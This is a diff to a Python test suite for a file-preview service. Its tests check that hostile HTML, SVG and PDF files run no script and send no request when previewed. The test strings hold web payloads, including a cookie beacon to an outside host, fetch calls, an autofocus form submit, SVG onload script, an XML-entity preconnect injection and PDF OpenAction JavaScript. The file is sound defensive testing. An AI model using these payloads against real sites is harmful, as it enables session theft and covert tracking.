@@ -29,7 +29,7 @@ pathlib.Path("src/app.py").write_text("def main():\\n    return 1\\n")
 pathlib.Path("src/deep/x.txt").write_text("deep")
 pathlib.Path("table.csv").write_text('name,"a, b"\\nmilk,3\\n')
 pathlib.Path("read.md").write_text("# Read me\\n\\nBold **words**.\\n")
-pathlib.Path("page.html").write_text("<h1>Hello page</h1><script>document.body.textContent='ran'</script>")
+pathlib.Path("page.html").write_text("<h1>Hello page</h1>")
 pathlib.Path("pic.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')
 pathlib.Path("done").write_text("")
 """
@@ -135,16 +135,21 @@ HOSTILE: Final = """
 @font-face {{ font-family: f; src: url("{out}/font") }} body {{ font-family: f }}</style>
 <script src="{out}/script.js"></script><script>document.title = "HACKED"; fetch("{out}/fetch");
 new Image().src = "{out}/beacon?" + document.cookie; top.location = "{out}/top"</script>
-<img src="{out}/img" onerror="document.title='HACKED'"><img srcset="{out}/srcset 1x"><video src="{out}/video" autoplay>
-</video><iframe src="{out}/frame"></iframe><object data="{out}/object"></object><embed src="{out}/embed">
+<img src="{out}/img" onerror="document.title='HACKED'"><img srcset="{out}/srcset 1x">
+<video src="{out}/video" autoplay></video><iframe src="{out}/frame"></iframe>
+<object data="{out}/object"></object><embed src="{out}/embed">
 <form action="{out}/form" id="f"><button autofocus onfocus="f.submit()">x</button></form>
 <iframe srcdoc="<script>top.document.title='HACKED'</script>"></iframe>
+<iframe srcdoc='&lt;link rel="preconnect" href="{out}"&gt;'></iframe><LINK rel=preconnect href={out}>
 <svg onload="document.title='HACKED'"></svg><h1 id="here">here</h1>
 """
-SVG: Final = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"
-onload="fetch('{out}/svg')"><style>@import url("{out}/svgcss");</style><script>fetch("{out}/svgscript");
-document.title = "HACKED"</script><image href="{out}/svgimage" width="9" height="9"/><use href="{out}/use#x"/>
-<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{out}/foreign"/></foreignObject></svg>"""
+SVG: Final = """<!DOCTYPE svg [<!ENTITY hidden
+'&#60;link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="{out}"/>'>]>
+<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('{out}/svg')">
+<style>@import url("{out}/svgcss");</style>
+<script>fetch("{out}/svgscript"); document.title = "HACKED"</script>
+<image href="{out}/svgimage" width="9" height="9"/><use href="{out}/use#x"/><foreignObject>
+<img xmlns="http://www.w3.org/1999/xhtml" src="{out}/foreign"/></foreignObject>&hidden;</svg>"""
 PDF: Final = """%PDF-1.4
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("{out}/pdfjs"))>>>>endobj
 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
@@ -170,7 +175,7 @@ async def _outside() -> AsyncIterator[tuple[str, list[bytes]]]:
 
 
 async def test_hostile_files_do_nothing_in_a_preview(gateway: GatewayInside, browser: Browser) -> None:
-    """In the panel's frame and as a page of their own: no script runs, and no request leaves."""
+    """In the panel and as a page of their own: no script runs, and no host hears of it."""
     root = await _session(gateway, "hostile")
     async with _outside() as (out, heard):
         texts = {"evil.html": HOSTILE, "evil.svg": SVG, "evil.pdf": PDF}
@@ -191,7 +196,7 @@ async def test_hostile_files_do_nothing_in_a_preview(gateway: GatewayInside, bro
             with contextlib.suppress(Exception):  # a PDF is kept by a browser without a viewer
                 await alone.goto(gateway.url + link["url"])
             assert "HACKED" not in await alone.title()
-            if name != "evil.pdf":
+            if name == "evil.html":
                 assert await alone.evaluate("self.origin") == "null"
                 with pytest.raises(Exception, match=r"sandboxed|SecurityError|cookie"):
                     await alone.evaluate("document.cookie")
